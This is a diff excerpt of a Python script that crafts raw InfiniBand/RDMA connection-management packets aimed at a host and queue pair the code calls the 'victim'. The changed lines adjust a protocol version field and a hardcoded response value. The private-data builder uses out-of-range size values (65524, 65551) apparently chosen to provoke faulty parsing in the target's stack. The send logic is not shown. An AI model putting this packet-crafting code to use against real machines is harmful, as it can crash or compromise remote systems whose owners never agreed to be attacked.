@@ -7,21 +7,21 @@
 victim = socket.inet_pton(socket.AF_INET6, sys.argv[1])
 victim_qpn = int(sys.argv[2], 0)
 
-def private(qpn=victim_qpn, mtu=65524, extension=True, version=2, credits=64, most=65551, lane=0):
+def private(qpn=victim_qpn, mtu=65524, extension=True, version=3, credits=64, most=65551, lane=0):
     base = struct.pack("!II", qpn, mtu)
     ours = struct.pack("!4sBBHIB3x", b"iprs", version, 0x30, credits, most, lane)
     return base + (ours if extension else b"")
 
 count = random.getrandbits(24)
 
-def request(data, sender=victim, to=None, pkey=0xffff, transport=0, mtu=5, service=None, node=None, pair=None, response=16):
+def request(data, sender=victim, to=None, pkey=0xffff, transport=0, mtu=5, service=None, node=None, pair=None):
     global count
     count += 1
     head = struct.pack("!BBBBHHQHHI", 1, 7, 2, 3, 0, 0, count, 0x10, 0, 0)
     body = bytearray(232)
     service = 1 << 60 | qpn if service is None else service
     struct.pack_into("!I4xQQ4xI", body, 0, count, service, count << 20 if node is None else node, 0)
-    struct.pack_into("!IIII", body, 32, (count & 0xffffff if pair is None else pair) << 8 | 1, 1, 16 << 3 | transport << 1, count << 8 & 0xffffff00 | response << 3 | 6)
+    struct.pack_into("!IIII", body, 32, (count & 0xffffff if pair is None else pair) << 8 | 1, 1, 16 << 3 | transport << 1, count << 8 & 0xffffff00 | 16 << 3 | 6)
     struct.pack_into("!HBBHH", body, 48, pkey, mtu << 4 | 7, 1 << 4, 0, 0)
     body[56:72] = sender
     body[72:88] = to or gid
